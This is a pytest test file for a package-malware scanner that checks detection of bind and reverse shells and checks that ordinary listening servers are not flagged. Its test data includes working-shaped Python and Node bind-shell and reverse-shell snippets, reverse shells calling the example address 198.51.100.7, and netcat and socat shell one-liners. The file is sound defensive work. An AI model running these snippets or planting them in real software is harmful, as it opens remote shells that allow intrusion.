"""Bind shells and reverse shells: a socket wired to a shell, by how the socket was made.

Small synthetic snippets (no real malware); addresses are examples, nothing is run.
"""

from __future__ import annotations

import pytest

from analyzer.detect.static.scan import SignalKind, StaticSignal, scan_package
from analyzer.models import Ecosystem

SHELLS = {SignalKind.BIND_SHELL, SignalKind.REVERSE_SHELL}


def scan(path: str, body: str) -> list[StaticSignal]:
    ecosystem = Ecosystem.NPM if path.startswith("package/") else Ecosystem.PYPI
    return list(scan_package([(path, body.encode())], ecosystem))


def shells(path: str, body: str) -> list[tuple[SignalKind, str]]:
    return [(s.kind, s.detail) for s in scan(path, body) if s.kind in SHELLS]


PY = "pkg-1.0/pkg/debug.py"
JS = "package/lib/repl.js"

_PY_DUP2 = """
import os, pty, socket
srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.bind(("0.0.0.0", 31337))
srv.listen(5)
while True:
    conn, addr = srv.accept()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        pty.spawn("/bin/bash")
"""
_PY_POPEN = """
import socket, subprocess
server = socket.create_server(("", 9001))
client, _ = server.accept()
subprocess.Popen(["/bin/sh", "-i"], stdin=client.makefile("rb"), stdout=client.fileno())
"""
_PY_RECV = """
import socket, subprocess
s = socket.socket()
s.bind(("0.0.0.0", 4444))
s.listen(1)
c, _ = s.accept()
while True:
    data = c.recv(1024)
    cmd = data.decode().strip()
    c.sendall(subprocess.check_output(cmd, shell=True))
"""
_PY_REVERSE_POPEN = """
import socket, subprocess
s = socket.create_connection(("198.51.100.7", 443))
subprocess.Popen(["/bin/sh"], stdin=s, stdout=s, stderr=s)
"""
_JS_EXEC = """
const net = require('net');
const { exec } = require('child_process');
net.createServer((sock) => {
  sock.on('data', (buf) => {
    exec(buf.toString().trim(), (err, out) => sock.write(out));
  });
}).listen(31337, '0.0.0.0');
"""
_JS_PIPE = """
const net = require('net');
const cp = require('child_process');
const server = net.createServer(function (c) {
  const sh = cp.spawn('/bin/sh', []);
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
});
server.listen(5555);
"""
_JS_REVERSE_EXEC = """
const net = require('net');
const { execSync } = require('child_process');
const client = net.connect(443, '198.51.100.7');
client.on('data', function (d) { client.write(execSync(d.toString())); });
"""


@pytest.mark.parametrize(
    ("path", "body", "kind"),
    [
        (PY, _PY_DUP2, SignalKind.BIND_SHELL),
        (PY, _PY_POPEN, SignalKind.BIND_SHELL),
        (PY, _PY_RECV, SignalKind.BIND_SHELL),
        (PY, _PY_REVERSE_POPEN, SignalKind.REVERSE_SHELL),
        (JS, _JS_EXEC, SignalKind.BIND_SHELL),
        (JS, _JS_PIPE, SignalKind.BIND_SHELL),
        (JS, _JS_REVERSE_EXEC, SignalKind.REVERSE_SHELL),
        ("pkg-1.0/scripts/debug.sh", "nc -lvnp 4444 -e /bin/bash\n", SignalKind.BIND_SHELL),
        ("pkg-1.0/scripts/tunnel.sh", "socat TCP-LISTEN:9999,fork EXEC:/bin/sh\n",
         SignalKind.BIND_SHELL),
        ("pkg-1.0/scripts/back.sh", "nc 198.51.100.7 4444 -e /bin/sh\n", SignalKind.REVERSE_SHELL),
    ],  # fmt: skip
    ids=[
        "py-dup2", "py-popen-stdin", "py-run-received", "py-reverse-popen", "js-exec-received",
        "js-pipe", "js-reverse-exec", "nc-listen", "socat-listen", "nc-reverse",
    ],  # fmt: skip
)
def test_shell_wired_to_a_socket(path: str, body: str, kind: SignalKind) -> None:
    found = shells(path, body)
    assert [k for k, _ in found] == [kind], found


_PY_DEV_SERVER = """
import os, socket, subprocess
srv = socket.socket()
srv.bind(("0.0.0.0", 8000))
srv.listen()
conn, _ = srv.accept()
request = conn.recv(4096)
conn.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\n" + render(request))
subprocess.run(["/bin/sh", "-c", "make html"], check=True)
"""
# remote-pdb's honest shape: a debugger, not a shell, on the accepted connection.
_PY_REMOTE_PDB = """
import pdb, socket
def set_trace(host="127.0.0.1", port=4444):
    server = socket.create_server((host, port))
    conn, _ = server.accept()
    stream = conn.makefile("rw")
    pdb.Pdb(stdin=stream, stdout=stream).set_trace()
"""
# A daemon redirects its own stdio to /dev/null and serves: dup2, but not of the socket.
_PY_DAEMON = """
import os, socket
devnull = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(devnull, fd)
srv = socket.create_server(("", 7000))
conn, _ = srv.accept()
os.execv("/bin/sh", ["/bin/sh", "-c", "logger started"])
"""
_JS_DEV_SERVER = """
const net = require('net');
const { spawn } = require('child_process');
const server = net.createServer((socket) => {
  socket.on('data', (chunk) => socket.write(chunk));
  socket.pipe(socket);
});
server.listen(8080, '0.0.0.0');
spawn('node', ['build.js'], { stdio: 'inherit' });
"""
_JS_WATCHER = """
const net = require('net');
const { exec } = require('child_process');
net.createServer((sock) => {
  sock.on('data', (msg) => {
    if (msg.toString() === 'rebuild') exec('npm run build');
  });
}).listen(35729);
"""


@pytest.mark.parametrize(
    ("path", "body"),
    [(PY, _PY_DEV_SERVER), (PY, _PY_REMOTE_PDB), (PY, _PY_DAEMON), (JS, _JS_DEV_SERVER),
     (JS, _JS_WATCHER)],  # fmt: skip
    ids=["py-dev-server", "py-remote-pdb", "py-daemon", "js-echo-server", "js-livereload"],
)
def test_listening_without_a_shell_is_quiet(path: str, body: str) -> None:
    assert shells(path, body) == []


def test_bind_shell_in_a_comment_is_ignored_but_in_a_test_is_marked() -> None:
    found = scan("pkg-1.0/tests/test_backdoor.py", _PY_DUP2)
    assert [(s.kind, s.role.value) for s in found if s.kind in SHELLS] == [
        (SignalKind.BIND_SHELL, "test")
    ]
